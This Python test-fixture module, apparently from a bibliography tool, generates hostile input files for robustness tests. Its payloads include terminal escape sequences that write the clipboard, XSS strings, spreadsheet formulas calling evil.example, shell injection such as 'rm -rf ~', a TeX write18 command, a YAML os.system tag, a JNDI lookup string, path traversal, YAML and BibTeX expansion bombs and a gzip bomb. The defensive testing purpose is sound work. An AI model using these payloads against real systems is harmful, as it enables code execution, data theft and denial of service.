"""Files written to do harm, made when a test asks for them so that no giant lies in the repository.

`PAYLOADS` are texts that act on a terminal, a clipboard, a markup parser, a spreadsheet or a file system; `write`
puts every one of them into every field of every format. `STRUCTURES` are files whose shape, not whose words, is the
attack; each is made for a size, so that a test can compare what n and 2n cost.
"""

# ruff: noqa: E501, UP031 (a table reads best with one structure a line, JSON with its braces single)

from __future__ import annotations

import gzip
import json
import unicodedata
from collections.abc import Callable, Mapping
from pathlib import Path

import yaml

__all__ = ["MARK", "PAYLOADS", "STRUCTURES", "acting", "gzip_bomb", "huge", "write"]

MARK = "ZXZpbA=="
"""What the hostile OSC 52 sequences would put on the clipboard: `evil`, in base64."""

PAYLOADS: Mapping[str, str] = {
    "osc52": f"copies \x1b]52;c;{MARK}\x07 quietly",
    "osc52 c1": f"copies \x9d52;c;{MARK}\x9c quietly",
    "osc52 tmux": f"copies \x1bPtmux;\x1b\x1b]52;c;{MARK}\x07\x1b\\ through tmux",
    "osc52 half": f"begins \x1b]52;c;{MARK}",
    "osc8": "links \x1b]8;;file:///etc/passwd\x1b\\here\x1b]8;;\x1b\\",
    "osc0": "names the window \x1b]0;owned\x07",
    "csi": "clears \x1b[2J\x1b[H\x1b[31m\x9b1;1H the screen",
    "screen": "leaves \x1b[?1049l\x1b[?25l\x1b[?1000h the screen",
    "reset": "resets \x1bc\x1b[!p everything",
    "query": "asks \x1b[6n\x1b[c\x05 the terminal",
    "controls": "rings \x07 steps \x08\x08 back \x7f and \x00 ends \x0e\x0f\x1a",
    "bidi": "shows \u202egnp.exe\u202c \u2066forth\u2069 and \u202dback",
    "hidden": "hides \u200b\u200c\u200d\u2060\ufeff\u00ad\u061c\u180e\U000e0041\U000e0042 tags",
    "surrogates": "breaks \ud800 and \udfff apart \udc1b]52;c;AA\udc07",
    "breaks": "line\r\nbreaks\rand\x0b\x0c\x85\u2028more\u2029and\ttabs",
    "markup": "x[/]y [bold red]me[/bold red] [/nothing] [",
    "action": "press [@click=app.open('file:///etc/passwd')]here[/] [@click=app.quit]or here[/]",
    "link": "[link=file:///etc/passwd]read[/link] [a](javascript:alert(1)) <javascript:alert(1)>",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a> <i>never closed",
    "entities": "&#27;]52;c;QQ==&#7; &#x9b;31m &#0; &#xd800; &#1114112; &lt;script&gt; &amp;lt;b&amp;gt;",
    "tex": '\\input{/etc/passwd} \\write18{rm -rf /} \\href{javascript:alert(1)}{x} \\char27 \\symbol{"1B} ^^1b]52;c;QQ==',
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula plus": "+1+1-cmd|' /C calc'!A0\t-2",
    "traversal": "../../../../tmp/bibscope-was-here",
    "absolute": "/tmp/bibscope-was-here",
    "option": "--output=/tmp/bibscope-was-here",
    "shell": "$(touch /tmp/bibscope-was-here) `touch /tmp/bibscope-was-here` ; rm -rf ~ | cat",
    "javascript": "javascript:alert(document.domain)",
    "file": "file:///etc/passwd",
    "credentials": "https://doi.org:secret@evil.example/10.1000/1",
    "lookalike": "https://dоi.org/10.1000/1",
    "braces": "}}}{{{ \"\" '' @misc{a, title = {b} } , = # % \\ $ $$ ~ _ ^ &",
    "yaml": "--- !!python/object/apply:os.system ['true']\n...\n&a *a : - ? | > % @ `",
    "template": "{0} {__class__} %s %(x)s %n {{7*7}} ${jndi:ldap://evil.example}",
    "combining": "Z" + "\u0301\u0300\u0316\u0327" * 40 + "algo",
    "wide": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd漢字\ufdfd\U0001f1e6",
    "blank": "   \t  ",
    "nothing": "",
}

_LETTERS_STAY = frozenset("\u200c\u200d")
_BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def acting(text: str, *, lines: bool = True) -> list[str]:
    """The characters in `text` that act on a terminal or deceive the eye; with `lines`, LF and tab are allowed."""
    if text.isprintable():
        return []
    allowed = "\n\t" if lines else ""
    return [
        char for char in text
        if char not in allowed and (unicodedata.category(char) in ("Cc", "Cs") or char in _BIDI)
    ]  # fmt: skip


# -- hostile words --------------------------------------------------------------------------------------------------


def write(folder: Path, payloads: Mapping[str, str] = PAYLOADS) -> list[Path]:
    """Write a library in which every payload is in every field, in each format, and give its files."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "[red]evil[b] \x1b]52;c;QQ==\x07.yaml": _librecat(payloads).encode("utf-8", "surrogatepass"),
        "$(touch x) [@click=app.quit].json": _librecat_json(payloads),
        "csl\u202enosj.json": _csl(payloads),
        "--output.bib": _bibtex(payloads).encode("utf-8", "replace"),
        "line\nbreak.ris": _ris(payloads).replace("\0", "").encode("utf-8", "replace"),
        "pub\u200bmed.nbib": _pubmed(payloads).replace("\0", "").encode("utf-8", "replace"),
        "end\r.enw": _endnote(payloads).replace("\0", "").encode("utf-8", "replace"),
        "\tweb.txt": _wos(payloads).replace("\0", "").encode("utf-8", "replace"),
        "flat\x9b2J.txt": _flat(payloads).encode("utf-8", "replace"),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return [folder / name for name in files]


def _record(number: int, name: str, bad: str) -> dict[str, object]:
    """A LibreCat record with `bad` wherever a text may stand."""
    return {
        "_id": f"6{number:03}" if number % 3 else bad,
        "type": "journal_article" if number % 2 else bad,
        "title": f"{name}: {bad}",
        "author": [{"first_name": bad, "last_name": f"{name} {bad}", "orcid": bad, "id": bad}, {"full_name": bad}],
        "editor": [{"literal": bad}],
        "supervisor": [{"first_name": bad, "last_name": bad}],
        "date_published": f"{1990 + number % 30}-01-01" if number % 4 else bad,
        "date_updated": bad,
        "publication": bad,
        "publisher": bad,
        "volume": bad,
        "issue": bad,
        "page": bad,
        "edition": bad,
        "abstract": [{"lang": bad, "text": f"{bad}\n\n{bad}"}],
        "doi": f"10.1000/{bad}" if number % 2 else bad,
        "keyword": [bad, f"{bad},{bad}"],
        "publication_identifier": {"issn": [bad], "isbn": [bad], bad: [bad], "arxiv": bad},
        "external_id": {"arxiv": [bad], "isi": [bad], "pmid": [bad]},
        "related_material": {
            "record": [{"id": bad, "relation": bad, "status": bad}, {"id": f"6{number:03}", "relation": "part_of"}],
            "link": [{"relation": bad, "url": bad, "description": bad}, {"url": f"https://{bad}"}],
        },
        "main_file_link": [{"url": bad, "open_access": "1"}],
        "file": [{"file_name": bad, "file_id": bad, "content_type": bad, "access_level": bad, "file_size": bad}],
        "citation": {"apa": bad, "ieee": f"<b>{bad}</b>", bad: bad},
        "language": [{"iso": bad}],
        "project": [{"name": bad, "grant_number": bad}],
        "department": [{"_id": bad}],
        "conference": {"name": bad, "location": bad, "start_date": bad},
        "status": bad,
        "license": bad,
        "quality_controlled": bad,
        bad or "empty": bad,
    }


def _librecat(payloads: Mapping[str, str]) -> str:
    documents = (_record(n, *item) for n, item in enumerate(payloads.items()))
    return yaml.safe_dump_all(documents, explicit_start=True, allow_unicode=True)


def _librecat_json(payloads: Mapping[str, str]) -> bytes:
    """The same records by other ids, with the control codes as JSON escapes, which every parser undoes."""
    records = [{**_record(n, *item), "_id": f"7{n:03}"} for n, item in enumerate(payloads.items())]
    return json.dumps(records).encode()


def _csl(payloads: Mapping[str, str]) -> bytes:
    def item(number: int, name: str, bad: str) -> dict[str, object]:
        return {
            "id": f"{name}/{bad}", "type": "article-journal" if number % 2 else bad, "title": bad,
            "author": [{"family": bad, "given": bad}, {"literal": bad}, {"family": bad, "suffix": bad}],
            "issued": {"date-parts": [[2000 + number]]} if number % 2 else {"raw": bad, "literal": bad, "season": bad},
            "container-title": bad, "page": bad, "volume": bad, "URL": bad, "DOI": bad, "abstract": bad, "note": bad,
            "keyword": bad, "number": bad, "ISSN": bad, "publisher-place": bad, "custom": {bad: bad}, bad: bad,
        }  # fmt: skip

    return json.dumps([item(n, *pair) for n, pair in enumerate(payloads.items())]).encode()


def _bibtex(payloads: Mapping[str, str]) -> str:
    fields = ("title", "author", "editor", "journal", "year", "doi", "url", "note", "keywords", "pages", "crossref",
              "abstract", "file", "eprint", "month", "series", "language", "annote")  # fmt: skip

    def entry(number: int, name: str, bad: str) -> str:
        even = bad if bad.count("{") == bad.count("}") else bad.replace("{", "(").replace("}", ")")
        body = ",\n".join(f"  {field} = {{{name} {even}}}" for field in fields)
        key = "".join(char for char in bad if char not in '{}(),=#%"\\~ \t\n\r') or "none"
        return f"@article{{{number}{key},\n{body}\n}}\n"

    return "\n".join(entry(n, *item) for n, item in enumerate(payloads.items()))


def _ris(payloads: Mapping[str, str]) -> str:
    tags = ("TI", "AU", "A2", "PY", "JO", "DO", "UR", "L1", "AB", "KW", "SP", "ID", "N1", "SN", "C1", "ZZ")

    def entry(name: str, bad: str) -> str:
        return "\n".join(["TY  - JOUR", *(f"{tag}  - {name} {bad}" for tag in tags), "ER  - ", ""])

    return "\n".join(entry(*item) for item in payloads.items())


def _pubmed(payloads: Mapping[str, str]) -> str:
    tags = ("TI", "FAU", "AUID", "CN", "DP", "JT", "TA", "LID", "AB", "MH", "PG", "IS", "GR", "PT", "BTI", "ZZ")

    def entry(number: int, name: str, bad: str) -> str:
        return "\n".join([f"PMID- 7{number:03}", *(f"{tag:<4}- medicine {name} {bad}" for tag in tags), ""])

    return "\n".join(entry(number, *item) for number, item in enumerate(payloads.items()))


def _endnote(payloads: Mapping[str, str]) -> str:
    def entry(name: str, bad: str) -> str:
        return "\n".join(["%0 Journal Article", *(f"%{tag} notes {name} {bad}" for tag in "TAEYJBDPKXRU@FZM8C"), ""])

    return "\n".join(entry(*item) for item in payloads.items())


def _wos(payloads: Mapping[str, str]) -> str:
    tags = ("AU", "AF", "CA", "TI", "SO", "DT", "DE", "AB", "OI", "CT", "CL", "PD", "PY", "BP", "DI", "SN", "EI", "ZZ")

    def entry(number: int, name: str, bad: str) -> str:
        lines = (f"{tag} science {name} {bad}" for tag in tags)
        return "\n".join(["PT J", *lines, f"UT WOS:9{number:03}", f"PM {bad}", "ER", ""])

    return "\n".join(entry(number, *item) for number, item in enumerate(payloads.items()))


def _flat(payloads: Mapping[str, str]) -> str:
    """LibreCat YAML that lost its line breaks, as when it is pasted into a form."""
    whole = yaml.safe_dump_all(
        [_record(n + 1, *item) | {"_id": f"8{n:03}"} for n, item in enumerate(payloads.items())],
        explicit_start=True, width=10**9, allow_unicode=True,
    )  # fmt: skip
    return " ".join(whole.split("\n"))


def huge(folder: Path, authors: int = 100_000, letters: int = 1_000_000) -> Path:
    """One record with more people and a longer title than a screen, a citation or a line can hold."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "huge.json"
    people = [{"first_name": "A", "last_name": f"Name{n}"} for n in range(authors)]
    record = {"_id": "1", "type": "journal_article", "title": "word " * (letters // 5), "author": people}
    path.write_text(json.dumps([{**record, "date_published": "2001", "keyword": ["k"] * 1000}]))
    return path


# -- hostile structures ---------------------------------------------------------------------------------------------

_HEAD = "_id: '1'\ntype: book\ntitle: Before\n---\n"
_TAIL = "---\n_id: '2'\ntype: book\ntitle: After\ndate_published: '2001'\n"


def _yaml(body: str) -> bytes:
    """A YAML document between two good ones, which must survive it."""
    return f"{_HEAD}{body}\n{_TAIL}".encode()


def _bib(body: str) -> bytes:
    return (
        f"@book{{before, title={{Before}}, year=2001}}\n{body}\n@book{{after, title={{After}}, year=2002}}\n".encode()
    )


def _csl_items(*items: str) -> bytes:
    good = '{"id":"before","type":"book","title":"Before","issued":{"date-parts":[[2001]]}}'
    return f"[{','.join([good, *items])}]".encode()


def _records(count: int, make: Callable[[int], dict[str, object]]) -> bytes:
    return json.dumps(
        [{"_id": str(n), "type": "book", "date_published": "2001", **make(n)} for n in range(count)]
    ).encode()


def _laughs(n: int) -> bytes:
    """Each alias doubles the one before it."""
    lines = ["_id: '9'", "title: bomb", "a0: &a0 [lol, lol]"]
    lines += [f"a{k + 1}: &a{k + 1} [*a{k}, *a{k}]" for k in range(n)]
    return _yaml("\n".join(lines))


def _strings(n: int) -> bytes:
    """Each macro doubles the one before it."""
    macros = ['@string{s0 = "lol"}', *(f"@string{{s{k + 1} = s{k} # s{k}}}" for k in range(n))]
    return _bib("\n".join([*macros, f"@book{{bomb, title = s{n}, year = 2000}}"]))


def _related(n: int, target: Callable[[int], int], relation: str = "part_of") -> bytes:
    return _records(n, lambda k: {"title": f"Work {k}", "related_material": {
        "record": [{"id": str(target(k)), "relation": relation}]}})  # fmt: skip


def _field(name: str, value: str) -> bytes:
    return _bib(f"@misc{{x, {name} = {{{value}}}, year = 2000}}")


def _title(value: str) -> bytes:
    return _records(1, lambda _: {"title": value, "abstract": [{"text": value}], "publication": value})


STRUCTURES: Mapping[str, Callable[[int], bytes]] = {
    "yaml alias bomb": lambda n: _laughs(min(n, 60)),
    "yaml many aliases": lambda n: _yaml("_id: '9'\na: &a [x, y]\nb:\n" + "- *a\n" * n),
    "yaml many anchors": lambda n: _yaml("_id: '9'\nb:\n" + "".join(f"- &a{k} x\n" for k in range(n))),
    "yaml flow depth": lambda n: _yaml("_id: '9'\nb: " + "[" * n),
    "yaml closed flow depth": lambda n: _yaml("_id: '9'\nb: " + "[" * n + "]" * n),
    "yaml brace depth": lambda n: _yaml("_id: '9'\nb: " + "{a: " * n),
    "yaml dash depth": lambda n: _yaml("_id: '9'\nb:\n" + "- " * n + "x"),
    "yaml question depth": lambda n: _yaml("_id: '9'\n" + "? " * n + "x"),
    "yaml indent depth": lambda n: _yaml("_id: '9'\n" + "".join(" " * k + "a:\n" for k in range(min(n, 1500)))),
    "yaml cyclic alias": lambda n: _yaml("_id: '9'\ntitle: x\na: &a\n  b: *a\n" + "x: y\n" * (n // 8)),
    "yaml cyclic list": lambda n: _yaml("_id: '9'\ntitle: x\na: &a [*a]\n" + "x: y\n" * (n // 8)),
    "yaml whole cycle": lambda n: _yaml("&a\n_id: '9'\ntitle: x\nauthor: [*a]\n" + "x: y\n" * (n // 8)),
    "yaml merge keys": lambda n: _yaml("_id: '9'\nbase: &b {title: t}\n" + "<<: *b\n" * (n // 8)),
    "yaml python tags": lambda n: _yaml("_id: '9'\ntitle: !!python/object/apply:os.system ['exit 3']\n" * (n // 60 + 1)),
    "yaml duplicate keys": lambda n: _yaml("_id: '9'\n" + "title: again\n" * (n // 12)),
    "yaml many keys": lambda n: _yaml("_id: '9'\ntitle: x\n" + "".join(f"k{k}: v\n" for k in range(n // 8))),
    "yaml keys no scalars": lambda n: _yaml("_id: '9'\n? [a, b]\n: c\n? {d: e}\n: f\n" * (n // 40 + 1)),
    "yaml documents": lambda n: _yaml("---\n" * (n // 4)),
    "yaml broken documents": lambda n: _yaml("---\n_id: [\n" * (n // 12)),
    "yaml broken keys": lambda n: _yaml("_id: '9'\ntitle: x\n" + "".join(f"k{k}: [\n" for k in range(n // 8))),
    "yaml colons": lambda n: _yaml("_id: '9'\ntitle: " + ": " * n),
    "yaml quotes": lambda n: _yaml("_id: '9'\ntitle: \"" + '\\"' * n),
    "yaml scalar": lambda n: _yaml("_id: '9'\ntitle: " + "x" * n),
    "yaml block scalar": lambda n: _yaml("_id: '9'\ntitle: |\n" + "  x\n" * (n // 4)),
    "yaml directives": lambda n: b"%YAML 1.1\n" * (n // 10) + _yaml("_id: '9'\ntitle: x"),
    "yaml tabs": lambda n: _yaml("_id: '9'\ntitle:\t" + "\t" * n + "x"),
    "yaml controls": lambda n: _yaml("_id: '9'\ntitle: " + "\x01" * n),
    "flat ids": lambda n: ("--- _id: '9' title: x " * (n // 24)).encode(),
    "flat bare ids": lambda n: ("_id: '1' type: book title: x " + "_id: " * (n // 5)).encode(),
    "flat dashes": lambda n: ("--- _id: '9' type: book title: x author: " + "- " * n).encode(),
    "flat keys": lambda n: ("--- _id: '9' type: book title: x " + "author: " * (n // 8)).encode(),
    "flat names": lambda n: ("--- _id: '9' type: book title: x author: " + "- first_name: a last_name: b " * (n // 30)).encode(),
    "flat quotes": lambda n: ("--- _id: '9' type: book title: '" + "'' ' \" " * (n // 7)).encode(),
    "flat colons": lambda n: ("--- _id: '9' type: book title: x abstract: - lang: eng text: " + "a: b: " * (n // 6)).encode(),
    "bibtex open braces": lambda n: _bib("@book{x, title = " + "{" * n),
    "bibtex close braces": lambda n: _bib("}" * n),
    "bibtex brace pairs": lambda n: _bib("@book{x, title = " + "{" * (n // 2) + "}" * (n // 2) + "}"),
    "bibtex quotes": lambda n: _bib("@book{x, title = " + '"' * n),
    "bibtex ats": lambda n: _bib("@" * n),
    "bibtex entries that never end": lambda n: _bib("@a{" * (n // 3)),
    "bibtex entries in lines": lambda n: _bib("@a{b,\n" * (n // 6)),
    "bibtex comments": lambda n: _bib("@comment{" * (n // 9)),
    "bibtex parentheses": lambda n: _bib("@book(" * (n // 6)),
    "bibtex percents": lambda n: _bib("%" * n),
    "bibtex string loop": lambda n: _bib("@string{a = b}\n@string{b = a}\n@book{x, title = a # b}\n" * (n // 60 + 1)),
    "bibtex string self": lambda n: _bib("@string{a = a # a}\n" * (n // 20) + "@book{x, title = a}"),
    "bibtex string bomb": lambda n: _strings(min(n, 60)),
    "bibtex concatenation": lambda n: _bib("@book{x, title = " + '"a" # ' * (n // 6) + '"b"}'),
    "bibtex same field": lambda n: _bib("@book{x, " + "title = {a},\n" * (n // 13) + "}"),
    "bibtex crossref loop": lambda n: _bib("".join(f"@book{{x{k}, crossref = {{x{(k + 1) % (n // 30)}}}}}\n" for k in range(n // 30))),
    "bibtex crossref chain": lambda n: _bib("".join(f"@book{{x{k}, title={{T{k}}}, crossref = {{x{k + 1}}}}}\n" for k in range(n // 40))),
    "bibtex crossref self": lambda n: _bib("@book{x, crossref = {x}}\n" * (n // 25)),
    "bibtex same keys": lambda n: _bib("@book{x, title = {Same}}\n" * (n // 25)),
    "bibtex empty keys": lambda n: _bib("@book{,}\n" * (n // 9)),
    "bibtex commas": lambda n: _bib("@book{x" + "," * n + "}"),
    "bibtex equals": lambda n: _bib("@book{x, " + "=" * n + "}"),
    "tex backslashes": lambda n: _field("title", "\\" * n),
    "tex dollars": lambda n: _field("title", "$" * n),
    "tex accents": lambda n: _field("title", "\\'{" * (n // 3) + "e" + "}" * (n // 3)),
    "tex accents without letter": lambda n: _field("title", "\\'" * (n // 2)),
    "tex commands": lambda n: _field("title", "\\textbf{" * (n // 9) + "x" + "}" * (n // 9)),
    "tex carets": lambda n: _field("title", "$" + "^" * n + "$"),
    "tex powers": lambda n: _field("title", "$" + "x^{" * (n // 4) + "}" * (n // 4) + "$"),
    "tex fractions": lambda n: _field("title", "$" + "\\frac{" * (n // 7) + "}" * (n // 7) + "$"),
    "tex unclosed math": lambda n: _field("title", "$x \\( \\[ " * (n // 9)),
    "tex ands": lambda n: _field("author", " and ".join(["A"] * (n // 6))),
    "tex bare ands": lambda n: _field("author", "and " * (n // 4)),
    "tex commas in a name": lambda n: _field("author", "," * n),
    "tex words in a name": lambda n: _field("author", "von Name " * (n // 9)),
    "names one long word": lambda n: _field("author", "A." * (n // 2)),
    "json depth": lambda n: b"[" * n,
    "json closed depth": lambda n: b'[{"_id":"1","title":"x","author":' + b"[" * n + b"]" * n + b"}]",
    "json object depth": lambda n: b'{"_id":"1","title":"x","a":' * (n // 27),
    "json strings": lambda n: b'[{"_id":"1","title":"' + b'\\"' * (n // 2),
    "json lines broken": lambda n: b'{"_id":"1","title":"x"}\n{\n' * (n // 26),
    "json many values": lambda n: b'{"_id":"1","title":"x"} ' * (n // 24),
    "json digits": lambda n: _csl_items('{"id":"x","type":"book","title":"x","number":' + "9" * n + "}"),
    "csl exponent": lambda n: _csl_items(*['{"id":"x","type":"book","number":1e999999999,"volume":-1e999999999,'
                                           '"issued":{"date-parts":[[1e308]]}}'] * (n // 100)),
    "csl number text": lambda n: _csl_items('{"id":"x","type":"book","number":"1e999999999","volume":"' + "9" * n + '"}'),
    "csl years": lambda n: _csl_items(*('{"id":"x%d","type":"book","title":"x","issued":{"date-parts":[[%d,%d,%d]]}}' % (k, (-1) ** k * 10 ** (k % 300), k, -k)
                                        for k in range(n // 70))),
    "csl literal": lambda n: _csl_items('{"id":"x","type":"book","title":"x","issued":"%s"}' % ("1-" * (n // 2))),
    "csl raw digits": lambda n: _csl_items('{"id":"x","type":"book","title":"x","issued":{"raw":"%s"}}' % ("9" * n)),
    "csl names": lambda n: _csl_items('{"id":"x","type":"book","title":"x","author":[%s]}' % ",".join(['{"family":"A"}'] * (n // 15))),
    "csl wrong kinds": lambda n: _csl_items(*['{"id":[],"type":{},"title":[1,{"a":null}],"author":"x","issued":[[[]]],"page":{"a":1}}'] * (n // 100)),
    "csl pages": lambda n: _csl_items('{"id":"x","type":"book","title":"x","page":"%s"}' % ("1-" * (n // 2))),
    "csl yaml depth": lambda n: ("references:\n- id: x\n  type: book\n  title: " + "[" * n).encode(),
    "csl yaml bomb": lambda n: ("references:\n- id: x\n  type: book\n  title: x\n  a0: &a0 [x, x]\n" + "".join(
        f"  a{k + 1}: &a{k + 1} [*a{k}, *a{k}]\n" for k in range(min(n, 60)))).encode(),
    "ris one line": lambda n: b"TY  - JOUR\nTI  - " + b"x" * n + b"\nER  - \n",
    "ris continued": lambda n: b"TY  - JOUR\nTI  - x\n" + b"more\n" * (n // 5) + b"ER  - \n",
    "ris starts": lambda n: b"TY  - JOUR\n" * (n // 11),
    "ris ends": lambda n: b"TY  - JOUR\n" + b"ER  - \n" * (n // 7),
    "ris tags": lambda n: b"TY  - JOUR\n" + b"AU  - A\n" * (n // 8) + b"ER  - \n",
    "ris returns": lambda n: b"TY  - JOUR\n" + b"\r" * n,
    "ris semicolons": lambda n: b"TY  - JOUR\nKW  - " + b"a; " * (n // 3) + b"\nER  - \n",
    "html open tags": lambda n: _title("<i>" * (n // 3)),
    "html nested tags": lambda n: _title("<i>" * (n // 7) + "x" + "</i>" * (n // 7)),
    "html mixed tags": lambda n: _title("<i><b></i></b>" * (n // 14)),
    "html less-than": lambda n: _title("<" * n),
    "html comments": lambda n: _title("<!--" * (n // 4)),
    "html ampersands": lambda n: _title("&" * n),
    "html entities": lambda n: _title("&amp;" * (n // 5)),
    "html endless entity": lambda n: _title("&#" + "9" * n + ";"),
    "html attributes": lambda n: _title("<a " + "x=" * (n // 2)),
    "html mathml": lambda n: _title("<math>" + "<mrow>" * (n // 7) + "x"),
    "html mathml powers": lambda n: _title("<math>" + "<msup><mi>x</mi>" * (n // 16) + "</msup>" * (n // 16) + "</math>"),
    "html many maths": lambda n: _title("<math><mi>x</mi>" * (n // 16)),
    "html superscripts": lambda n: _title("<sup>1</sup>" * (n // 12)),
    "text blanks": lambda n: _title(" " * n + "x" + " " * n),
    "text returns": lambda n: _title("\r\n" * (n // 2)),
    "text combining": lambda n: _title("e" + "\u0301" * (n // 6)),
    "text parentheses": lambda n: _title("(" * n),
    "text quotes": lambda n: _title("'" * n + '"' * n),
    "text dashes": lambda n: _title("a-" * (n // 2)),
    "text words": lambda n: _title(" ".join(f"w{k}" for k in range(n // 7))),
    "text address": lambda n: _records(1, lambda _: {"title": "x", "main_file_link": [{"url": "https://" + "a." * (n // 2)}]}),
    "same titles": lambda n: _records(n // 60, lambda _: {"title": "Same title of everything there is"}),
    "same dois": lambda n: _records(n // 60, lambda k: {"title": f"T{k}", "doi": "10.1000/1"}),
    "same ids": lambda n: _records(n // 60, lambda k: {"_id": "1", "title": f"T{k}"}),
    "alike titles": lambda n: _records(n // 60, lambda k: {"title": f"A study of the same old things, number {k}"}),
    "same people": lambda n: _records(n // 100, lambda k: {"title": f"T{k}", "author": [{"last_name": "Same", "first_name": "A"}] * 3}),
    "alike people": lambda n: _records(n // 100, lambda k: {"title": f"T{k}", "author": [{"last_name": "Same", "first_name": f"{chr(65 + k % 26)}. B{k}"}]}),
    "one keyword": lambda n: _records(n // 60, lambda k: {"title": f"T{k}", "keyword": ["same"]}),
    "relation cycle": lambda n: _related(n // 120, lambda k: (k + 1) % max(1, n // 120)),
    "relation chain": lambda n: _related(n // 120, lambda k: k + 1, "new_version"),
    "relation chain of parts": lambda n: _related(n // 120, lambda k: k + 1, "dissertation_contains"),
    "relation self": lambda n: _related(n // 120, lambda k: k),
    "relation star": lambda n: _related(n // 120, lambda _: 0),
    "relation dangling": lambda n: _related(n // 120, lambda k: 10**6 + k),
    "relations in one": lambda n: _records(1, lambda _: {"title": "x", "related_material": {
        "record": [{"id": str(k), "relation": "part_of"} for k in range(n // 40)]}}),
    "prose lines": lambda n: b"A line of prose that is no bibliography.\n" * (n // 40),
    "prose one line": lambda n: b"word " * (n // 5),
    "prose blank lines": lambda n: b"x" + b"\n" * n,
    "bytes": lambda n: b"@book{x, title={" + b"\xe9\xff\x80" * (n // 3) + b"}}",
    "utf16": lambda n: ("@book{x, title={" + "x" * (n // 2) + "}}").encode("utf-16"),
}  # fmt: skip
"""Name -> the bytes of a file of about n bytes (bombs: n doublings, at most 60)."""


def gzip_bomb(size: int = 64 << 20, wraps: int = 1) -> bytes:
    """Zeros that unpack to `size` bytes, packed `wraps` times over."""
    data = b"@book{x, title={" + b"\0" * size
    for _ in range(wraps):
        data = gzip.compress(data, 9)
    return data
